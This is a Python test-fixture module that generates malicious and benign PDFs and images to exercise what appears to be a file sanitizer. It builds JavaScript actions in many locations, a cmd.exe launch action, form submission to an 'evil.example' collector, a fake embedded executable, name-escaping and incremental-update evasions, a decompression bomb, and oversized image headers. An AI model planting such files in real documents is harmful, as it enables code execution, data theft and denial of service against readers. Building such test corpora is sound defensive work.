"""Test corpus built by the tests themselves: PDFs with pikepdf, images with Pillow.

Nothing here is a binary blob from elsewhere; every tricky file is made next to a plain
one so each rule is shown by a pass and a refusal.
"""

import io
import re
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

MIB = 1024 * 1024
JS = "app.alert('pwned')"


# --- PDF --------------------------------------------------------------------------------
def new_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(1, pages + 1):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1]
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(
            f"BT /F1 24 Tf 72 760 Td (Page {number}) Tj ET".encode()
        )
    return pdf


def save(pdf: pikepdf.Pdf, *, object_streams: bool = False, **options) -> bytes:
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, **options)
    return out.getvalue()


def js_action(pdf, code: str = JS):
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def _link(pdf, action, subtype=Name.Link):
    return pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=subtype, Rect=[72, 600, 300, 640], A=action)
    )


def add_annotation(pdf, annot, page: int = 0) -> None:
    target = pdf.pages[page].obj
    if "/Annots" not in target:
        target.Annots = Array()
    target.Annots.append(annot)


def add_text_field(pdf, name: str = "nom", *, aa=None):
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String(name),
            V=String(""),
            Rect=[72, 500, 300, 530],
            P=pdf.pages[0].obj,
        )
    )
    if aa is not None:
        field.AA = aa
    add_annotation(pdf, field)
    if "/AcroForm" not in pdf.Root:
        pdf.Root.AcroForm = Dictionary(Fields=Array())
    pdf.Root.AcroForm.Fields.append(field)
    return field


def _js_document(pdf):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), js_action(pdf)]))
    )


def _js_open_action(pdf):
    pdf.Root.OpenAction = js_action(pdf)


def _js_catalog_aa(pdf):
    pdf.Root.AA = Dictionary(WC=js_action(pdf), WS=js_action(pdf))


def _js_page_aa(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=js_action(pdf), C=js_action(pdf))


def _js_link_annotation(pdf):
    add_annotation(pdf, _link(pdf, js_action(pdf)))


def _js_annotation_aa(pdf):
    annot = _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.service-public.fr/")))
    annot.AA = Dictionary(E=js_action(pdf))
    add_annotation(pdf, annot)


def _js_form_field(pdf):
    field = add_text_field(pdf, aa=Dictionary(K=js_action(pdf), F=js_action(pdf)))
    field.A = js_action(pdf)


def _js_outline(pdf):
    item = pdf.make_indirect(Dictionary(Title=String("Chapitre"), A=js_action(pdf)))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


def _js_next_chain(pdf):
    first = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=js_action(pdf))
    add_annotation(pdf, _link(pdf, first))


JS_LOCATIONS = {
    "document": _js_document,
    "open_action": _js_open_action,
    "catalog_aa": _js_catalog_aa,
    "page_aa": _js_page_aa,
    "link_annotation": _js_link_annotation,
    "annotation_aa": _js_annotation_aa,
    "form_field": _js_form_field,
    "outline": _js_outline,
    "next_chain": _js_next_chain,
}


def _action(kind, **fields):
    def add(pdf):
        add_annotation(pdf, _link(pdf, Dictionary(S=Name(kind), **fields)))

    return add


def _embedded_file(pdf):
    data = pdf.make_stream(b"MZ fake executable payload")
    data.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=data))
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("p"), spec])))


def _file_attachment(pdf):
    data = pdf.make_stream(b"MZ fake executable payload")
    data.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=data))
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20], FS=spec)
    )
    add_annotation(pdf, annot)


def _xfa(pdf):
    add_text_field(pdf)
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.NeedsRendering = True


def _rich_media(pdf):
    content = Dictionary(
        Type=Name.RichMediaContent, Assets=Dictionary(Names=Array()), Configurations=Array()
    )
    annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=[0, 0, 100, 100],
            RichMediaContent=content,
        )
    )
    add_annotation(pdf, annot)


def _screen_rendition(pdf):
    action = Dictionary(S=Name.Rendition, OP=0, JS=String(JS))
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=[0, 0, 100, 100], A=action)
    )
    add_annotation(pdf, annot)


OTHER_ACTIVE = {
    "launch": _action("/Launch", F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
    "submit_form": _action("/SubmitForm", F=String("https://evil.example/collect")),
    "import_data": _action("/ImportData", F=String("data.fdf")),
    "goto_remote": _action("/GoToR", F=String("other.pdf"), D=Array([0, Name.Fit])),
    "goto_embedded": _action("/GoToE", T=Dictionary(R=Name.C, N=String("x"))),
    "uri_javascript": _action("/URI", URI=String("javascript:alert(1)")),
    "embedded_files": _embedded_file,
    "file_attachment": _file_attachment,
    "xfa": _xfa,
    "rich_media": _rich_media,
    "screen_rendition": _screen_rendition,
}


def pdf_with(builder, *, object_streams: bool = False) -> bytes:
    pdf = new_pdf(pages=2)
    builder(pdf)
    return save(pdf, object_streams=object_streams)


def respell_names(data: bytes) -> bytes:
    """``/JavaScript`` written ``/J#61vaScript`` and ``/JS`` as ``/J#53`` (same names)."""
    data = data.replace(b"/JavaScript", b"/J#61vaScript")
    data = re.sub(rb"/JS(?=[\s(<\[/])", b"/J#53", data)
    data = data.replace(b"/OpenAction", b"/Open#41ction")
    return _fix_xref(data)


def _fix_xref(data: bytes) -> bytes:
    """Recompute a classic xref table after bytes moved (only for files we made)."""
    offsets = {int(m.group(1)): m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj", data)}
    xref_at = data.rindex(b"\nxref\n") + 1
    size = max(offsets) + 1
    lines = [b"xref\n", f"0 {size}\n".encode(), b"0000000000 65535 f \n"]
    for number in range(1, size):
        lines.append(f"{offsets.get(number, 0):010d} 00000 n \n".encode())
    trailer = data[data.index(b"trailer", xref_at) : data.rindex(b"startxref")]
    return data[:xref_at] + b"".join(lines) + trailer + f"startxref\n{xref_at}\n%%EOF\n".encode()


def append_revision(base: bytes, *, catalog_extra: bytes, new_objects: dict[int, bytes]) -> bytes:
    """An incremental update: new objects and a new catalog after the original file."""
    with pikepdf.open(io.BytesIO(base)) as pdf:
        root_number = pdf.Root.objgen[0]
        catalog = pdf.Root.unparse(resolved=True)
        size = int(pdf.trailer.Size)
    catalog = catalog.rstrip()[:-2] + b" " + catalog_extra + b" >>"
    previous = int(base[base.rindex(b"startxref") + 9 :].split()[0])
    body = bytearray(base)
    if not body.endswith(b"\n"):
        body += b"\n"
    offsets = {}
    for number, obj in [*new_objects.items(), (root_number, catalog)]:
        offsets[number] = len(body)
        body += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref_at = len(body)
    body += b"xref\n"
    for number in sorted(offsets):
        body += f"{number} 1\n{offsets[number]:010d} 00000 n \n".encode()
    new_size = max(size, *(n + 1 for n in offsets))
    body += (
        f"trailer\n<< /Size {new_size} /Root {root_number} 0 R /Prev {previous} >>\n"
        f"startxref\n{xref_at}\n%%EOF\n"
    ).encode()
    return bytes(body)


def pdf_with_incremental_js() -> bytes:
    """A clean first revision, then an update adding an OpenAction JavaScript."""
    base = save(new_pdf(pages=2))
    with pikepdf.open(io.BytesIO(base)) as pdf:
        number = int(pdf.trailer.Size)
    return append_revision(
        base,
        catalog_extra=f"/OpenAction {number} 0 R".encode(),
        new_objects={number: f"<< /S /JavaScript /JS ({JS}) >>".encode()},
    )


def pdf_with_js_in_old_revision() -> bytes:
    """JavaScript in the first revision, still referenced after a later update."""
    pdf = new_pdf(pages=1)
    _js_open_action(pdf)
    base = save(pdf)
    with pikepdf.open(io.BytesIO(base)) as opened:
        number = int(opened.trailer.Size)
    return append_revision(
        base,
        catalog_extra=b"/Lang (fr-FR)",
        new_objects={number: b"<< /Producer (revision 2) >>"},
    )


def pdf_with_link(uri: str = "https://www.service-public.fr/") -> bytes:
    pdf = new_pdf()
    add_annotation(pdf, _link(pdf, Dictionary(S=Name.URI, URI=String(uri))))
    return save(pdf)


def pdf_form() -> bytes:
    pdf = new_pdf()
    add_text_field(pdf, "nom")
    add_text_field(pdf, "prenom")
    return save(pdf)


def pdf_encrypted(*, user: str, owner: str = "proprietaire") -> bytes:
    return save(new_pdf(), encryption=pikepdf.Encryption(user=user, owner=owner, R=6))


def pdf_of_size(target: int) -> bytes:
    """A valid PDF of exactly ``target`` bytes (an uncompressed filler stream)."""
    filler = 0
    for _ in range(8):
        pdf = new_pdf()
        pdf.Root.Filler = pdf.make_stream(b"0" * filler)
        data = save(pdf, compress_streams=False, deterministic_id=True)
        if len(data) == target:
            return data
        filler += target - len(data)
    raise AssertionError("could not reach the exact size")


def pdf_bomb(decoded_bytes: int) -> bytes:
    """A PDF whose cross-reference stream inflates to ``decoded_bytes``: qpdf must decode
    it just to open the file."""
    compressor = zlib.compressobj(9)
    head = b"".join(
        struct.pack(">BIH", 1, offset, 0) for offset in (0, 15, 64, 120)
    )  # plausible entries, then zeros
    chunks = [compressor.compress(head)]
    block = bytes(MIB)
    for _ in range(decoded_bytes // MIB):
        chunks.append(compressor.compress(block))
    chunks.append(compressor.flush())
    stream = b"".join(chunks)
    body = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    for number, obj in enumerate(objects, start=1):
        body += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref_at = len(body)
    body += (
        f"4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        f"/Length {len(stream)} >>\nstream\n"
    ).encode()
    body += stream + b"\nendstream\nendobj\n"
    body += f"startxref\n{xref_at}\n%%EOF\n".encode()
    return bytes(body)


# --- Images -----------------------------------------------------------------------------
def image_bytes(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def gradient(mode: str = "RGB", size=(320, 240)) -> Image.Image:
    grey = Image.linear_gradient("L").resize(size)
    if mode in {"RGB", "RGBA", "CMYK"}:
        other = grey.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
        bands = (grey, other, grey.transpose(Image.Transpose.FLIP_TOP_BOTTOM))
        bands += (other,) * (len(mode) - 3)
        return Image.merge(mode, bands)
    return grey.convert(mode)


def jpeg_with_gps() -> bytes:
    image = gradient()
    exif = image.getexif()
    exif[0x010F] = "Fabricant"  # Make
    exif[0x0112] = 1  # Orientation
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (48.0, 51.0, 24.0)
    gps[3] = "E"
    gps[4] = (2.0, 21.0, 7.0)
    return image_bytes(image, "JPEG", exif=exif.tobytes(), quality=90)


def png_with_gps() -> bytes:
    image = gradient()
    exif = image.getexif()
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (48.0, 51.0, 24.0)
    return image_bytes(image, "PNG", exif=exif.tobytes())


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header declares huge dimensions, with almost no pixel data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", ihdr)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 1024))
        + _chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header is patched to declare other dimensions."""
    data = bytearray(image_bytes(gradient(size=(16, 16)), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_of_size(target: int) -> bytes:
    """A valid PNG of exactly ``target`` bytes: noise pixels plus a private padding chunk."""
    side = 256
    noise = Image.frombytes("RGB", (side, side), bytes(range(256)) * (side * 3))
    data = image_bytes(noise, "PNG")
    padding = target - len(data) - 12
    assert padding >= 0
    iend = data.rindex(b"IEND") - 4
    return data[:iend] + _chunk(b"prVt", b"\0" * padding) + data[iend:]
